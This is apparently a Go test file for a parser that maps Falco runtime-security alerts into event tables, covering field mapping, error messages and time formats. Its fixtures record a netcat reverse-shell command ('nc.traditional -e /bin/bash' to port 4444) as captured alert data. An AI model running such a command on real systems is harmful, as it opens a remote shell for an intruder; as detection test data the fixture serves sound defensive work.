package profile

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stoop-project/stoop/internal/event"
	"github.com/stoop-project/stoop/internal/testdata"
)

const dup2 = `{"hostname":"vm","output":"20:02:01.579188254: Notice Redirect stdout/stdin","output_fields":{"container.id":"6cf4be7b2388",` +
	`"container.image.repository":"docker.io/shop/web","container.image.tag":"2.4.1","container.name":"web","evt.time":1795464121579188254,` +
	`"evt.type":"dup2","fd.l4proto":"tcp","fd.lport":4444,"fd.name":"127.0.0.1:37352->127.0.0.1:4444","fd.rport":37352,"fd.sip":"127.0.0.1",` +
	`"fd.type":"ipv4","k8s.ns.name":"shop","k8s.pod.name":"web-0","proc.aname[2]":"python3","proc.aname[3]":"containerd-shim",` +
	`"proc.aname[4]":null,"proc.cmdline":"nc.traditional -e /bin/bash 127.0.0.1 4444","proc.exepath":"/usr/bin/nc.traditional",` +
	`"proc.name":"nc.traditional","proc.pname":"sh","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0},"priority":"Notice",` +
	`"rule":"Redirect STDOUT/STDIN to Network Connection in Container","source":"syscall","tags":["T1059","container"],` +
	`"time":"2026-11-23T20:02:01.579188254Z"}`

// mapOne maps a document into a batch of its own.
func mapOne(t *testing.T, doc string) *event.Batch {
	t.Helper()
	tables := event.NewTables()
	e, err := NewMapper(ByName("falco"), tables).Map([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	b := event.NewBatch(tables, 1, 1)
	b.Append(e, []byte(doc))
	return b
}

func TestMapRows(t *testing.T) {
	b := mapOne(t, dup2)
	tab, e := b.Tables, b.At(0)
	if want := time.Date(2026, 11, 23, 20, 2, 1, 579188254, time.UTC).UnixNano(); e.Time != want {
		t.Errorf("time %d, want %d", e.Time, want)
	}
	if e.Type.String() != "dup2" || e.FD != -1 || e.Bits != event.HasDoc {
		t.Errorf("event %+v", e)
	}

	p := tab.Proc(e.Proc)
	if got := tab.Text(p.Args); tab.Text(p.Name) != "nc.traditional" || got != "-e\x00/bin/bash\x00127.0.0.1\x004444\x00" {
		t.Errorf("process %q %q", tab.Text(p.Name), got)
	}
	if !p.Knows(event.KnowTTY|event.KnowUID|event.KnowLoginUID) || p.Knows(event.KnowPID) || p.LoginUID != 0xffffffff {
		t.Errorf("known %b, loginuid %d", p.Known, p.LoginUID)
	}
	var names []string
	for n := 1; tab.Ancestor(e.Proc, n) != 0; n++ {
		names = append(names, tab.Text(tab.Proc(tab.Ancestor(e.Proc, n)).Name))
	}
	if got := strings.Join(names, " "); got != "sh python3 containerd-shim" {
		t.Errorf("ancestors %q", got)
	}

	o := tab.Obj(e.Obj)
	if o.Kind != event.ObjIPv4 || o.L4 != event.L4TCP || o.Role != event.RoleServer ||
		o.Local.String() != "127.0.0.1:4444" || o.Remote.String() != "127.0.0.1:37352" {
		t.Errorf("object %+v", o)
	}

	c := tab.Cont(p.Cont)
	for _, s := range []struct {
		got  event.Str
		want string
	}{
		{c.ID, "6cf4be7b2388"},
		{c.Name, "web"},
		{c.Repo, "docker.io/shop/web"},
		{c.Tag, "2.4.1"},
		{c.Pod, "web-0"},
		{c.Namespace, "shop"},
	} {
		if tab.Text(s.got) != s.want {
			t.Errorf("container has %q, want %q", tab.Text(s.got), s.want)
		}
	}

	a := tab.Alert(e.Alert)
	if a.Priority != event.PriorityNotice || tab.Text(a.Source) != "syscall" || tab.Text(a.Tags) != "T1059\x00container\x00" ||
		tab.Text(a.Origin) != "falco" || !strings.HasPrefix(tab.Text(a.Rule), "Redirect") {
		t.Errorf("alert %+v", a)
	}
}

// What one alert adds to a container is there for the alerts before it.
func TestContainerFillsUp(t *testing.T) {
	tab := event.NewTables()
	m := NewMapper(ByName("falco"), tab)
	alert := func(fields string) event.ContID {
		e, err := m.Map([]byte(`{"rule":"r","priority":"Notice","time":"2026-01-01T00:00:00Z","output_fields":{` + fields + `}}`))
		if err != nil {
			t.Fatal(err)
		}
		return tab.Proc(e.Proc).Cont
	}
	first := alert(`"container.id":"0123456789ab","container.name":"web"`)
	again := alert(`"container.id":"0123456789ab","k8s.pod.name":"web-0","k8s.ns.name":null`)
	other := alert(`"container.id":"0123456789ab","container.name":"db"`)
	if first != again || first == other {
		t.Fatalf("rows %d, %d, %d", first, again, other)
	}
	c := tab.Cont(first)
	if tab.Text(c.Name) != "web" || tab.Text(c.Pod) != "web-0" || c.Namespace != event.NoStr {
		t.Errorf("container %+v", c)
	}
}

// All alerts of five generations are read, as Falco and as shippers store
// them, and give the same rows.
func TestRealAlerts(t *testing.T) {
	for name, want := range map[string]int{
		"siem/falco-raw/alerts.ndjson": 18, "siem/falco-raw/attack.ndjson": 19, "siem/falco-raw/lab.ndjson": 261,
		"siem/falco-raw/golden-cat_write.scap.ndjson":         8,
		"siem/falco-filebeat/json-target.derived.ndjson":      18,
		"siem/falco-filebeat/keys_under_root.derived.ndjson":  18,
		"siem/falco-filebeat/message-unparsed.derived.ndjson": 18,
		"siem/falco-fluentbit/merge_log.derived.ndjson":       18,
		"siem/falco-logzio/type-falco.derived.ndjson":         18,
		"siem/falcosidekick/dotted.derived.ndjson":            18,
		"siem/falcosidekick/flattened.derived.ndjson":         18,
		"siem/falco-elastic/pipeline.derived.ndjson":          10,
		"siem/falco-elastic/sample_event.ndjson":              1,
	} {
		t.Run(filepath.Base(name), func(t *testing.T) {
			data, err := os.ReadFile(testdata.Path(t, name))
			if err != nil {
				t.Fatal(err)
			}
			tab := event.NewTables()
			m := NewMapper(ByName("falco"), tab)
			n := 0
			for _, line := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
				e, err := m.Map(line)
				if err != nil {
					t.Errorf("line %d: %v", n+1, err)
				}
				if n++; e.Time < 9e17 || e.Alert == 0 || tab.Alert(e.Alert).Priority == 0 {
					t.Errorf("line %d: %+v", n, e)
				}
			}
			if n != want {
				t.Errorf("%d alerts, want %d", n, want)
			}
		})
	}
}

// An alert without fields gives what its output says, marked as inferred.
func TestFieldsFromOutput(t *testing.T) {
	for _, tt := range []struct{ output, source, want string }{
		{
			"Notice A shell (user=root k8s.ns=shop k8s.pod=<NA> container=788861c3cf83 shell=sh parent=runc cmdline=sh -c a=b uptime terminal=34816)", "syscall",
			"sh|-c a=b uptime |runc|root|788861c3cf83|shop|",
		},
		{
			"Notice x | gparent=a evt_type=dup2 user=app process=nc parent=sh command=nc -e \\\"x\\\" terminal=0 container_id=host", "",
			"nc|-e \"x\" |sh|app|host||",
		},
		{"Notice no labels at all: a=b (c=d)", "syscall", "||||||"},
		{"Warning by anonymous (user=system:anonymous verb=get)", "k8s_audit", "||||||"},
		{"=", "syscall", "||||||"},
	} {
		b := mapOne(t, `{"rule":"r","priority":"Notice","time":"2026-01-01T00:00:00Z","source":"`+tt.source+`","output":"`+tt.output+`"}`)
		tab, e := b.Tables, b.At(0)
		p := tab.Proc(e.Proc)
		c := tab.Cont(p.Cont)
		got := strings.Join([]string{
			tab.Text(p.Name), strings.ReplaceAll(tab.Text(p.Args), "\x00", " "), tab.Text(tab.Proc(p.Parent).Name), tab.Text(p.User),
			tab.Text(c.ID), tab.Text(c.Namespace), tab.Text(c.Pod),
		}, "|")
		if got != tt.want || (e.Bits&event.Inferred != 0) != (tt.want != "||||||") {
			t.Errorf("%s\n got %s\nwant %s", tt.output, got, tt.want)
		}
	}
}

func TestErrors(t *testing.T) {
	good := `{"rule":"r","priority":"Notice","time":"2026-01-01T00:00:00Z"`
	for _, tt := range []struct{ doc, want string }{
		{``, "ends too early"},
		{`{`, "a member's name is expected"},
		{`[]`, "an object is expected"},
		{good, "a comma or } is expected"},
		{good + `,}`, "a member's name is expected"},
		{good + `} x`, "goes on behind its end"},
		{good + `,"a":nul}`, "a value is expected"},
		{good + `,"a":NaN}`, "a value is expected"},
		{good + `,"a":01}`, "a value is expected"},
		{good + `,"a":1.}`, "after the point"},
		{good + `,"a":"` + "\x01" + `"}`, "control character"},
		{good + `,"a":"\q"}`, "cannot be escaped"},
		{good + `,"a":"`, "has no end"},
		{good + `,"a":` + strings.Repeat("[", 1000) + strings.Repeat("]", 1000) + `}`, "nested too deeply"},
		{good + `,"output_fields":` + strings.Repeat(`{"a":`, 1000) + "1" + strings.Repeat("}", 1000) + `}`, "nested too deeply"},
		{`{"a":1}`, "none of the alerts of Falco"},
	} {
		_, err := NewMapper(ByName("falco"), event.NewTables()).Map([]byte(tt.doc))
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%.80s\n got %v\nwant %s", tt.doc, err, tt.want)
		}
	}
}

// A document whose time cannot be read is not lost: it gets the time of the one
// before it, marked as inferred.
func TestNoTime(t *testing.T) {
	for _, at := range []string{``, `,"time":"yesterday"`, `,"time":1e400`, `,"time":-5`, `,"time":null`, `,"time":{"a":1}`, `,"time":"0001-01-01T00:00:00Z"`} {
		m := NewMapper(ByName("falco"), event.NewTables())
		if _, err := m.Map([]byte(`{"rule":"r","priority":"Notice","time":"2026-01-01T00:00:00Z"}`)); err != nil {
			t.Fatal(err)
		}
		e, err := m.Map([]byte(`{"rule":"r","priority":"Notice"` + at + `}`))
		if want := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).UnixNano(); err != nil || e.Time != want || e.Bits&event.Inferred == 0 {
			t.Errorf("%s: %d %b %v", at, e.Time, e.Bits, err)
		}
	}
}

// Times in the usual formats.
func TestTimes(t *testing.T) {
	want := time.Date(2026, 11, 23, 20, 2, 1, 0, time.UTC).UnixNano()
	for _, s := range []string{
		`"2026-11-23T20:02:01Z"`, `"2026-11-23T22:02:01+0200"`, `"2026-11-23T21:02:01+01:00"`, `"2026-11-23 20:02:01"`, `"2026-11-23T20:02:01.000"`,
		`1795464121`, `1795464121000`, `1795464121000000`, `1795464121000000000`, `"1795464121000"`, `1795464121.000000`, `"1795464121.0"`,
		`["2026-11-23T20:02:01Z"]`,
	} {
		b := mapOne(t, `{"rule":"r","priority":"Notice","time":`+s+`}`)
		if got := b.Time[0]; got != want {
			t.Errorf("%s is read as %d, want %d", s, got, want)
		}
	}
}

func TestParseTime(t *testing.T) {
	for _, s := range []string{
		"2026-11-23T20:02:01.579188254Z", "2017-12-20T17:48:58.590038385Z", "2001-01-01T01:10:00Z", "2024-02-29T23:59:59.5+02:00",
		"1970-01-01T00:00:00Z", "2100-03-01T00:00:00-11:30", "2261-12-31T23:59:59.999999999Z", "2000-02-29T12:00:00.123Z",
	} {
		want, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			t.Fatal(err)
		}
		got, ok := parseTime([]byte(s))
		if !ok || got != want.UnixNano() {
			t.Errorf("%s: %d %v, want %d", s, got, ok, want.UnixNano())
		}
	}
	for day := 0; day < 106000; day += 13 {
		d := time.Unix(int64(day)*86400, 0).UTC()
		if got := daysSince1970(d.Year(), int(d.Month()), d.Day()); got != day {
			t.Fatalf("%s: %d days, want %d", d, got, day)
		}
	}
	for _, s := range []string{"", "2026-02-29T00:00:00Z", "2026-13-01T00:00:00Z", "2026-01-01T24:00:00Z", "1969-12-31T23:59:59Z", "2026-01-01T00:00", "2026-01-01T00:00:00x", "2026-01-01T00:00:00+1"} {
		if ns, ok := parseTime([]byte(s)); ok {
			t.Errorf("%q is read as %d", s, ns)
		}
	}
}
